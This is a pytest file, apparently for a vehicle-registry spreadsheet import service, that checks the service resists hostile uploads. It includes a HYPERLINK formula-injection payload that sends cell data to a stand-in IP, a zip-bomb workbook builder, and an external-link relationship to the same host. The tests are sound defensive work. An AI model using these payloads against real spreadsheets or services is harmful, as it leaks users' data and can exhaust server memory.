"""Files that are meant to harm: formulas, a compressed bomb, addresses to fetch."""

import io
import json
import socket
import zipfile
from collections.abc import Callable
from typing import Any

import pytest

from dyno.imports import limits, rows, service
from functions.imports import handler as door
from tests.functions.conftest import Answer, Call, Caller
from tests.integration.imports.conftest import sheet, workbook
from tests.integration.imports.test_registry import VEHICLES, VIN
from tests.lab import Lab

FORMULA = '=HYPERLINK("http://203.0.113.9/?"&A1,"open")'
ADDRESS = "http://203.0.113.9/plan.xlsx"
Send = Callable[[bytes, str], Answer]


@pytest.fixture
def send(call: Call) -> Send:
    def answer(content: bytes, kind: str) -> Answer:
        headers = {"Content-Type": kind}
        query = {"partial": "true"}
        return call(door, "POST", "/imports", caller=Caller.ADMIN, body=content, headers=headers, query=query)

    return answer


@pytest.mark.parametrize("kind", [door.CSV, door.XLSX])
def test_a_formula_is_neither_reckoned_nor_kept(lab: Lab, send: Send, kind: str) -> None:
    rows = (VEHICLES, (VIN, 5000, "AWD", FORMULA))
    said = send(sheet(*rows) if kind == door.CSV else workbook({"Vehicles": rows}), kind)

    assert said.status == 200
    assert FORMULA not in json.dumps(lab.rows("select v::text, h.after::text from vehicles v, registry_history h"))


def test_a_formula_that_is_taken_for_text_would_be_kept(lab: Lab, send: Send, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("dyno.imports.reading._of_text", lambda cell: cell or None)

    send(sheet(VEHICLES, (VIN, 5000, "AWD", FORMULA)), door.CSV)

    assert lab.sql("select program from vehicles") == FORMULA


def bomb() -> bytes:
    """A workbook of a few kilobytes that says of a part that it is larger unpacked than the function's memory."""
    content = io.BytesIO(workbook({"Vehicles": [VEHICLES, (VIN, 5000, "AWD", "P1")]}))
    with zipfile.ZipFile(content, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("xl/media/nothing.bin", bytes(32 * 2**20))
    return content.getvalue()


def test_a_compressed_bomb_is_refused_before_it_is_unpacked(lab: Lab, send: Send) -> None:
    said = send(bomb(), door.XLSX)

    assert (said.status, said.body["code"], lab.sql("select count(*) from vehicles")) == (422, "unreadable_file", 0)


def test_without_its_limits_a_bomb_would_be_opened(lab: Lab, send: Send, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("MAX_RATIO", "MAX_UNPACKED_BYTES", "MAX_STYLES_BYTES"):
        monkeypatch.setattr(limits, name, 10**12)

    assert (send(bomb(), door.XLSX).status, lab.sql("select count(*) from vehicles")) == (200, 1)


def linked() -> bytes:
    """A workbook that says where more of it is."""
    content = io.BytesIO(workbook({"Vehicles": [VEHICLES, (VIN, 5000, "AWD", ADDRESS)]}))
    with zipfile.ZipFile(content, "a") as archive:
        archive.writestr(
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
            f'Type="{ADDRESS}" Target="{ADDRESS}" TargetMode="External"/></Relationships>',
        )
    return content.getvalue()


@pytest.fixture
def called(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Addresses outside this machine that somebody looked up or called."""
    found: list[Any] = []
    look_up = socket.getaddrinfo

    def noted(host: Any, *more: Any, **named: Any) -> Any:
        if host not in ("127.0.0.1", "localhost"):
            found.append(host)
            raise OSError("nobody is there")
        return look_up(host, *more, **named)

    monkeypatch.setattr(socket, "getaddrinfo", noted)
    return found


def test_an_address_in_a_file_is_text_and_nobody_fetches_it(lab: Lab, send: Send, called: list[Any]) -> None:
    for content, kind in ((linked(), door.XLSX), (sheet(VEHICLES, (VIN, 5000, "AWD", ADDRESS)), door.CSV)):
        assert send(content, kind).status == 200

    assert called == []
    assert lab.rows("select program from vehicles") == [(ADDRESS,)]


def test_a_reader_that_fetches_is_found(
    lab: Lab, send: Send, called: list[Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    parse = rows.parse

    def fetching(content: bytes, **how: Any) -> Any:
        with pytest.raises(OSError):  # noqa: PT011
            socket.create_connection(("203.0.113.9", 80))
        return parse(content, **how)

    monkeypatch.setattr(service, "parse", fetching)

    send(linked(), door.XLSX)

    assert called == ["203.0.113.9"]
